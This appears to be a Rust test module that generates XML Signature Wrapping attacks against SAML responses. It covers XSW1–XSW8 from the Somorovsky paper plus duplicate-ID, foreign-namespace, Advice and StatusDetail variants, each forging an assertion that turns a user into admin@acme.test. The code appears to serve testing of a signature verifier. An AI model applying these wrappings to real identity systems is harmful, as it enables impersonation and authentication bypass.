//! Signature wrapping: the signed element is kept somewhere where the signature still finds it, and a forged one is put
//! where the reader looks. Numbers as in Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be".

use super::{Attack, assertion, signature};
use crate::replace_once;
use crate::sign::Result;

pub(super) fn all() -> Vec<Attack> {
    [by_response(), by_assertion(), elsewhere(), with_one_id()].into_iter().flatten().collect()
}

fn several(name: &'static str, why: &'static str) -> Attack {
    Attack::new("several_assertions", name, why).only_assertion()
}

impl Attack {
    /// Puts something else in place of the signed assertion.
    fn wrapped(self, wrap: impl Fn(&str) -> Result<String> + 'static) -> Self {
        self.then(move |xml| {
            let signed = assertion(xml)?;
            Ok(xml.replace(signed, &wrap(signed)?))
        })
    }
}

fn by_response() -> Vec<Attack> {
    let by = |name, why| Attack::new("several_responses", name, why).only_response();
    vec![
        by("xsw1", "A forged response carries the signature, in which the signed response lies.")
            .then(|xml| wrap_response(xml, inside)),
        by("xsw2", "A forged response carries the signature, before which the signed response lies.")
            .then(|xml| wrap_response(xml, |signature, signed| format!("{signed}{signature}"))),
    ]
}

fn by_assertion() -> Vec<Attack> {
    vec![
        several("xsw3", "A forged assertion stands before the signed one.")
            .wrapped(|signed| Ok(forged(signed)? + signed)),
        several("xsw4", "A forged assertion holds the signed one.").wrapped(|signed| {
            Ok(forged(signed)?.replace("</saml2:Assertion>", &format!("{signed}</saml2:Assertion>")))
        }),
        several("xsw5", "A forged assertion carries the signature; the signed one stands behind it.")
            .wrapped(|signed| Ok(forged_with_signature(signed) + &without_signature(signed)?)),
        several("xsw6", "A forged assertion carries the signature, in which the signed one lies.")
            .wrapped(|signed| Ok(inside(&forged_with_signature(signed), &without_signature(signed)?))),
        several("xsw8", "A forged assertion carries the signature, in whose Object the signed one lies.")
            .wrapped(|signed| Ok(inside(&forged_with_signature(signed), &object(signed)?))),
        several("forged_behind", "A forged assertion stands behind the signed one.")
            .wrapped(|signed| Ok(signed.to_owned() + &forged(signed)?)),
        Attack::new("several_assertions", "both_signed", "A forged assertion where the response was signed as well.")
            .wrapped(|signed| Ok(forged(signed)? + signed)),
        several("foreign_namespace", "The forged assertion is one by its local name only.").wrapped(|signed| {
            let foreign = forged(signed)?.replacen("urn:oasis:names:tc:SAML:2.0:assertion", "urn:example:other", 1);
            Ok(foreign + signed)
        }),
    ]
}

fn elsewhere() -> Vec<Attack> {
    let advice = "<saml2:Advice><saml2:Assertion ID=\"advice\" Version=\"2.0\" IssueInstant=\"2026-11-22T09:59:58Z\"/>\
                  </saml2:Advice><saml2:AuthnStatement ";
    vec![
        several("xsw7", "A forged assertion stands in Extensions, where no schema looks into.").then(|xml| {
            let extensions = format!("<saml2p:Extensions>{}</saml2p:Extensions>", forged(assertion(xml)?)?);
            replace_once(xml, "<saml2p:Status>", &(extensions + "<saml2p:Status>"))
        }),
        several("in_status_detail", "The signed assertion lies in StatusDetail.").then(|xml| {
            let signed = assertion(xml)?;
            let detail = format!("<saml2p:StatusDetail>{signed}</saml2p:StatusDetail></saml2p:Status>");
            replace_once(&xml.replace(signed, &forged(signed)?), "</saml2p:Status>", &detail)
        }),
        several("in_advice", "The identity provider itself advises by a second assertion.")
            .said("<saml2:AuthnStatement ", advice),
    ]
}

fn with_one_id() -> Vec<Attack> {
    let duplicate = |name, why| Attack::new("duplicate_id", name, why).only_assertion();
    let same_id = |xml: String| xml.replace("ID=\"evil\"", "ID=\"id23073497561563902035180823\"");
    vec![
        duplicate("xsw3_same_id", "Wrapping where the forged assertion has the signed one's ID.")
            .wrapped(move |signed| Ok(same_id(forged(signed)?) + signed)),
        duplicate("xsw8_same_id", "Wrapping by Object with one ID for both.")
            .wrapped(move |signed| Ok(same_id(inside(&forged_with_signature(signed), &object(signed)?)))),
    ]
}

/// Somebody else's assertion, under an ID of its own and without a signature.
fn forged(signed: &str) -> Result<String> {
    without_signature(signed).map(|unsigned| forged_with_signature(&unsigned))
}

fn forged_with_signature(signed: &str) -> String {
    signed.replace("ID=\"id23073497561563902035180823\"", "ID=\"evil\"").replace("ann.lee@acme.test", "admin@acme.test")
}

fn without_signature(signed: &str) -> Result<String> {
    Ok(signed.replace(signature(signed)?, ""))
}

fn object(signed: &str) -> Result<String> {
    Ok(format!("<ds:Object>{}</ds:Object>", without_signature(signed)?))
}

/// Puts `content` at the end of the signature.
fn inside(signature: &str, content: &str) -> String {
    signature.replace("</ds:Signature>", &format!("{content}</ds:Signature>"))
}

/// A forged response around the signature, with the signed response where `place` puts it.
fn wrap_response(xml: &str, place: fn(&str, &str) -> String) -> Result<String> {
    let forged = forged_with_signature(xml).replace("ID=\"id23073497561478311268137204\"", "ID=\"evil-response\"");
    Ok(forged.replace(signature(xml)?, &place(signature(xml)?, &without_signature(xml)?)))
}
